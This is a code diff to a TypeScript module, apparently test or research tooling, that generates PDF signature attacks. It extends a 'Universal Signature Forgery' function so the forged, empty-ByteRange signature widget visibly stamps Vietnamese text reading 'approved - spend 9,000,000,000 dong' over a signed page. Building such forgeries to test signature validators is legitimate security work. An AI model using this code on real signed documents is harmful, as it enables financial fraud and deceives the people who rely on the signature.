@@ -91,14 +91,29 @@ export function incrementalSavingAttack(
 }
 
 /** Universal Signature Forgery: a later "signature" whose ByteRange and /Contents are empty. */
-export function universalSignatureForgery(signed: Uint8Array): Uint8Array {
+export function universalSignatureForgery(
+  signed: Uint8Array,
+  options: { visible?: boolean } = {},
+): Uint8Array {
   const n = nextFree(signed);
   const { annotsNum, annots, formNum, form } = pageAndForm(signed);
   const fields = /\/Fields \[([^\]]*)\]/.exec(form)![1]!.trim();
+  // Visible: the forged signature's widget paints "approved" text over the signed page.
+  const widget = options.visible
+    ? `/Rect [60 700 400 740] /F 4 /AP << /N ${n + 2} 0 R >>`
+    : '/Rect [0 0 0 0]';
   return appendIncrementalUpdate(signed, {
-    [n]: `<< /FT /Sig /T (GiaMao) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /V ${n + 1} 0 R >>`,
+    [n]: `<< /FT /Sig /T (GiaMao) /Type /Annot /Subtype /Widget ${widget} /P 3 0 R /V ${n + 1} 0 R >>`,
     [n + 1]:
       '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <> >>',
+    ...(options.visible
+      ? {
+          [n + 2]: stream(
+            '1 1 1 rg 0 0 340 40 re f BT /Helv 14 Tf 2 12 Td (DA PHE DUYET - CHI 9.000.000.000 DONG) Tj ET',
+            '/Type /XObject /Subtype /Form /BBox [0 0 340 40]',
+          ),
+        }
+      : {}),
     [annotsNum]: `[${[...annots, `${n} 0 R`].join(' ')}]`,
     [formNum]: form.replace(/\/Fields \[[^\]]*\]/, `/Fields [${fields} ${n} 0 R]`),
   });
